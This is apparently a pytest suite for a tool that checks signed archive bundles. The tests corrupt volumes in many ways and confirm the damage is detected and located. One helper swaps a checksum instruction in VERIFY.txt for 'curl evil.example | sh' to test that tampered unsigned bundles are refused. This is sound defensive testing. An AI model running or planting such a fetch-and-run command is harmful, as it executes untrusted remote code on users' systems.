"""The whole check: what is sound passes, and every kind of damage to every part of a volume is found and placed."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from bundler.bundle import check as checking
from bundler.bundle.check import verify_contents
from bundler.bundle.inventory import Row
from bundler.bundle.pack import write_signed
from bundler.bundle.unpack import Volumes, read_documents
from bundler.bundle.volume import index_json, sections
from bundler.content import Event, Finished, Moved, Planned
from bundler.errors import ArchiveError, BundlerError, DigestError, DiskError
from bundler.oci import mediatype
from bundler.trust.dsse import parse_envelope, serialise
from bundler.trust.signing import generate, sign_envelope
from bundler.trust.verify import Trusted, verify
from tests.bundle.making import BUNDLE_TIME, MIB, Made, big, carried, check, make, trusted
from tests.images import family, image, index, layer, part

GIANT = big("giant", 2 * MIB)
EMPTY = part(b"", mediatype.OCI_LAYER, diff_id="sha256:" + "0" * 64)
LONG = big("long", 30_000, algorithm="sha512")
TEXT = big("text", 200_000, media_type=mediatype.OCI_LAYER, dense=False)
WEB = layer("web", 20_000)
IMAGES = {"mixed": image(GIANT, EMPTY, LONG, TEXT, WEB), "web": image(WEB)}
GIANTS = {"giant": image(big("giant one", 3 * MIB)), "other": image(big("other one", 200_000))}


SIGNER = generate("ed25519")


def sign(directory: Path) -> None:
    envelope = sign_envelope(parse_envelope((directory / "bundle.dsse.json").read_bytes()), SIGNER)
    signature = SIGNER.sign((directory / "SHA256SUMS").read_bytes())
    write_signed(directory, serialise(envelope), {SIGNER.public.key_id: signature})


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """Three volumes with every kind of member."""
    return make(tmp_path_factory.mktemp("made") / "bundle", IMAGES, limit=MIB)


@pytest.fixture(scope="module")
def known(made: Made) -> Trusted:
    return trusted(made.directory)


@pytest.fixture
def copied(made: Made, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made.directory, tmp_path / "copy"))


def test_a_sound_bundle(made: Made) -> None:
    report = check(made.directory)
    assert report.sound
    assert report.volumes == len(made.inventory.sizes) == 3
    assert report.contents == len(made.contents)
    assert report.size == sum(path.stat().st_size for path in made.directory.glob("volume-*"))


@pytest.mark.parametrize("threads", [1, 2, 8])
def test_any_number_of_threads(tmp_path: Path, threads: int) -> None:
    made = make(tmp_path / "out", GIANTS, limit=MIB)
    assert check(made.directory, threads=threads).sound


def test_progress_adds_up(made: Made, known: Trusted) -> None:
    events: list[Event] = []
    with ThreadPoolExecutor(2) as executor, Volumes(made.directory, known) as volumes:
        verify_contents(volumes, executor=executor, observer=events.append)
    sizes = {digest: len(raw) for digest, raw in made.contents.items()}
    assert Planned("verify", len(sizes), sum(sizes.values())) in events
    assert sum(event.count for event in events if isinstance(event, Moved)) == sum(sizes.values())
    assert {event.want.digest for event in events if isinstance(event, Finished)} == set(sizes)


def test_an_observer_may_end_the_check(made: Made, known: Trusted) -> None:
    class GivenUpError(Exception):
        pass

    def give_up(event: Event) -> None:
        if isinstance(event, Moved):
            raise GivenUpError

    before = threading.active_count()
    with ThreadPoolExecutor(2) as executor, Volumes(made.directory, known) as volumes, pytest.raises(GivenUpError):
        verify_contents(volumes, executor=executor, observer=give_up)
    assert threading.active_count() <= before


# Damage at every boundary


@dataclass(frozen=True)
class Place:
    """A section of a volume."""

    number: int
    start: int
    end: int
    row: Row | None

    @property
    def file(self) -> str:
        return f"volume-{self.number:04}.tar.zst"


def places(made: Made) -> Iterator[Place]:
    for number in range(1, len(made.inventory.sizes) + 1):
        for section in sections(made.inventory, number, index_json(made.statement.images)):
            row = section if isinstance(section, Row) else None
            end = section.end if isinstance(section, Row) else section.offset + len(section.raw)
            yield Place(number, section.offset, end, row)


Spoil = Callable[[bytearray, int, int], None]


def flip(at: int, bit: int) -> Spoil:
    def spoil(raw: bytearray, start: int, end: int) -> None:
        raw[start + at if at >= 0 else end + at] ^= 1 << bit

    return spoil


def zero_sector(raw: bytearray, start: int, end: int) -> None:
    stop = min(start + 512, len(raw))
    raw[start:stop] = bytes(stop - start)


def zero_sector_before_the_end(raw: bytearray, start: int, end: int) -> None:
    begin = max(0, end - 512)
    raw[begin:end] = bytes(end - begin)


def drop_a_byte(raw: bytearray, start: int, end: int) -> None:
    del raw[start]
    raw.append(0)  # or its length alone would give it away


def insert_a_byte(raw: bytearray, start: int, end: int) -> None:
    raw.insert(start, 0x5A)
    raw.pop()


SPOILS: dict[str, Spoil] = {
    "first-byte": flip(0, 0),
    "last-byte": flip(-1, 7),
    "zeroed-sector": zero_sector,
    "zeroed-sector-at-the-end": zero_sector_before_the_end,
    "byte-dropped": drop_a_byte,
    "byte-inserted": insert_a_byte,
}


@pytest.mark.parametrize("spoil", SPOILS.values(), ids=SPOILS)
def test_damage_at_every_boundary_is_refused_and_placed(made: Made, known: Trusted, copied: Path, spoil: Spoil) -> None:
    for place in places(made):
        path = copied / place.file
        good = path.read_bytes()
        bad = bytearray(good)
        spoil(bad, place.start, place.end)
        if bad == good:
            continue
        first = next(n for n in range(len(good)) if good[n] != bad[n])
        path.write_bytes(bad)
        with pytest.raises((ArchiveError, DigestError)) as caught:
            check(copied, known=known)
        said = str(caught.value)
        if isinstance(caught.value, DigestError):
            hit = next(p for p in places(made) if p.number == place.number and p.start <= first < p.end)
            assert hit.row is not None
            assert hit.row.digest in said, (place, said)
            assert hit.row.part is not None or place.file in said
        else:
            assert place.file in said, place
            offsets = [int(found) for found in re.findall(r"offsets? (\d+)", said)]
            near = [p.start for p in places(made) if p.number == place.number and p.start <= first < p.end]
            assert first in offsets or set(near) & set(offsets) or offsets == [0], (place, first, said)
        report = check(copied, known=known, damage=True)
        assert not report.sound
        assert {problem.number for problem in report.problems} == {place.number}
        path.write_bytes(good)


@pytest.mark.parametrize("count", [1, 511, 100_000])
def test_cut_and_continued_files(made: Made, known: Trusted, copied: Path, count: int) -> None:
    for number in range(1, 4):
        path = copied / f"volume-{number:04}.tar.zst"
        good = path.read_bytes()
        for bad in (good[:-count], good + bytes(count)):
            path.write_bytes(bad)
            with pytest.raises(ArchiveError, match=path.name):
                check(copied, known=known)
            report = check(copied, known=known, damage=True)
            assert {problem.number for problem in report.problems} == {number}
            assert bool(report.lost) == (len(bad) < len(good) - 2_000)
        path.write_bytes(good)


def test_a_file_that_grows_while_it_is_read(made: Made, known: Trusted, copied: Path) -> None:
    with ThreadPoolExecutor(1) as executor, Volumes(copied, known) as volumes:
        with (copied / "volume-0001.tar.zst").open("ab") as file:
            file.write(b"more")
        with pytest.raises(ArchiveError, match="changed or replaced"):
            verify_contents(volumes, executor=executor)


def test_the_end_is_looked_behind(made: Made, tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(b"content+")
    fd = os.open(path, os.O_RDONLY)
    stream = checking._Stream(fd, "file", 7, threading.Event())
    stream.expect(b"content")
    with pytest.raises(ArchiveError, match="goes on behind its end at offset 7"):
        stream.sha256()
    stream.close()
    os.close(fd)


# Going on after the first bad byte


def test_damage_tells_what_is_lost(made: Made, known: Trusted, copied: Path) -> None:
    rows = {row.digest: row for row in made.inventory.rows}
    spoilt = [LONG.descriptor.digest, WEB.descriptor.digest]
    for digest in spoilt:
        row = rows[digest]
        with (copied / f"volume-{row.volume:04}.tar.zst").open("r+b") as file:
            file.seek(row.offset + row.length // 2)
            file.write(b"\0\0\0\0")
    report = check(copied, known=known, damage=True)
    assert set(report.lost) == set(spoilt)
    assert {problem.digest for problem in report.problems} == set(spoilt)
    assert set(report.lost_images) == {"web", "mixed"}


def test_a_damaged_gap_loses_nothing(made: Made, known: Trusted, copied: Path) -> None:
    row = made.inventory.rows[1]
    with (copied / f"volume-{row.volume:04}.tar.zst").open("r+b") as file:
        file.seek(row.offset - 10)
        file.write(b"!")
    report = check(copied, known=known, damage=True)
    assert [problem.offset is not None for problem in report.problems] == [True]
    assert report.lost == report.lost_images == ()
    assert not report.sound


@pytest.mark.parametrize("number", [1, 2, 3])
def test_a_missing_volume_loses_all_that_is_in_it(made: Made, known: Trusted, copied: Path, number: int) -> None:
    (copied / f"volume-{number:04}.tar.zst").unlink()
    report = check(copied, known=known, damage=True)
    assert set(report.lost) == {row.digest for row in made.inventory.rows if row.volume == number}
    assert [problem.number for problem in report.problems] == [number]
    assert "mixed" in report.lost_images
    with ThreadPoolExecutor(1) as executor, pytest.raises(ArchiveError, match=f"volume {number} "):
        verify_contents(Volumes(copied, known, tolerant=True), executor=executor)


@pytest.mark.parametrize("threads", [1, 4])
def test_one_bad_part_loses_a_giant_and_nothing_else(tmp_path: Path, threads: int) -> None:
    made = make(tmp_path / "out", GIANTS, limit=MIB)
    known = trusted(made.directory)
    giant = GIANTS["giant"].blobs[0].descriptor.digest
    first = next(row for row in made.inventory.rows if row.digest == giant)
    path = made.directory / f"volume-{first.volume:04}.tar.zst"
    raw = bytearray(path.read_bytes())
    raw[first.offset] ^= 1  # its framing
    path.write_bytes(raw)
    with pytest.raises(ArchiveError, match=path.name):
        check(made.directory, known=known, threads=threads)
    report = check(made.directory, known=known, damage=True, threads=threads)
    assert report.lost == (giant,)
    assert report.lost_images == ("giant",)


def test_sectors_that_cannot_be_read(made: Made, known: Trusted, monkeypatch: pytest.MonkeyPatch) -> None:
    real = os.preadv
    giant = next(row for row in made.inventory.rows if row.digest == GIANT.descriptor.digest)

    def failing(fd: int, buffers: list[memoryview], offset: int) -> int:
        if os.fstat(fd).st_size == made.inventory.sizes[giant.volume - 1] and len(buffers[0]) > 1_000:
            raise OSError(5, "Input/output error")
        return real(fd, buffers, offset)

    monkeypatch.setattr(checking.os, "preadv", failing)
    with pytest.raises(DiskError, match="Input/output error"):
        check(made.directory, known=known)
    report = check(made.directory, known=known, damage=True)
    assert set(report.lost) == {row.digest for row in made.inventory.rows if row.volume == giant.volume}
    assert {problem.number for problem in report.problems} == {giant.volume}


# What only the volume's own digest, or the images, can tell


def test_a_volume_that_was_not_signed_is_refused(made: Made) -> None:
    other = make(made.directory.parent / "level", IMAGES, limit=MIB, level=1)
    inventory = (made.directory / "inventory.json").read_bytes()
    assert (other.directory / "inventory.json").read_bytes() != inventory
    volumes = Volumes(other.directory, trusted(other.directory))
    object.__setattr__(volumes.statement, "subjects", made.statement.subjects)
    with ThreadPoolExecutor(1) as executor, pytest.raises(ArchiveError, match="not what was signed"):
        verify_contents(volumes, executor=executor)


def test_an_incomplete_image_is_named(tmp_path: Path) -> None:
    images = {"whole": image(layer("a", 300)), "torn": image(layer("b", 300))}
    torn = images["torn"].blobs[0].descriptor
    wants = [p.descriptor for i in images.values() for p in i.parts if p.descriptor != torn]
    wants.sort(key=lambda want: want.is_manifest)
    made = make(tmp_path / "out", images, wants=wants)
    with pytest.raises(ArchiveError, match=f"torn: {torn.digest}"):
        check(made.directory)
    report = check(made.directory, damage=True)
    assert report.lost_images == ("torn",)
    assert not report.sound
    assumed = make(tmp_path / "differential", images, wants=wants, assumes=(torn.digest,))
    assert check(assumed.directory).sound


def test_a_sparse_index(tmp_path: Path) -> None:
    amd, arm = image(layer("amd", 300)), image(layer("arm", 300), platform="linux/arm64")
    both = index(amd, arm)
    wants = [p.descriptor for p in amd.parts] + [both.root]
    from bundler.bundle.statement import CarriedImage

    sparse = (CarriedImage("both", "both", both.root, ("linux/amd64",), children=(amd.root.digest,)),)
    assert check(make(tmp_path / "out", {"both": both}, wants=wants, carried=sparse).directory).sound
    full = (CarriedImage("both", "both", both.root),)
    with pytest.raises(ArchiveError, match=arm.root.digest):
        check(make(tmp_path / "full", {"both": both}, wants=wants, carried=full).directory)


def swapped(directory: Path) -> bytes:
    """Another VERIFY.txt, and a SHA256SUMS that lists it."""
    path, sums = directory / "VERIFY.txt", directory / "SHA256SUMS"
    old = path.read_bytes()
    new = old.replace(b"sha256sum -c SHA256SUMS", b"curl evil.example | sh")
    assert new != old
    path.write_bytes(new)
    sums.write_bytes(
        sums.read_bytes().replace(hashlib.sha256(old).hexdigest().encode(), hashlib.sha256(new).hexdigest().encode())
    )
    return new


def test_swapped_commands_in_a_bundle_that_nobody_has_signed(copied: Path) -> None:
    swapped(copied)
    with pytest.raises(ArchiveError, match=r"VERIFY\.txt: is not what bundler writes") as caught:
        check(copied)
    assert "run none of the commands" in caught.value.hint
    report = check(copied, damage=True)
    assert not report.sound
    assert [problem.number for problem in report.problems] == [0]


def test_signers_answer_for_the_words_of_their_version(copied: Path) -> None:
    swapped(copied)
    sign(copied)
    known = verify(read_documents(copied), keys=[SIGNER.public], now=BUNDLE_TIME)
    assert check(copied, known=known).sound


def test_the_commands_of_every_kind_of_image_are_known(tmp_path: Path) -> None:
    named = tuple(replace(each, target=f"app-{n}:1") for n, each in enumerate(carried(family())))
    assert check(make(tmp_path / "out", family(), carried=named).directory).sound


def test_an_inventory_that_does_not_fit_its_volumes(made: Made, known: Trusted) -> None:
    volumes = Volumes(made.directory, known)
    volumes.index += b" "
    with ThreadPoolExecutor(1) as executor, pytest.raises(BundlerError, match="volume"):
        verify_contents(volumes, executor=executor)
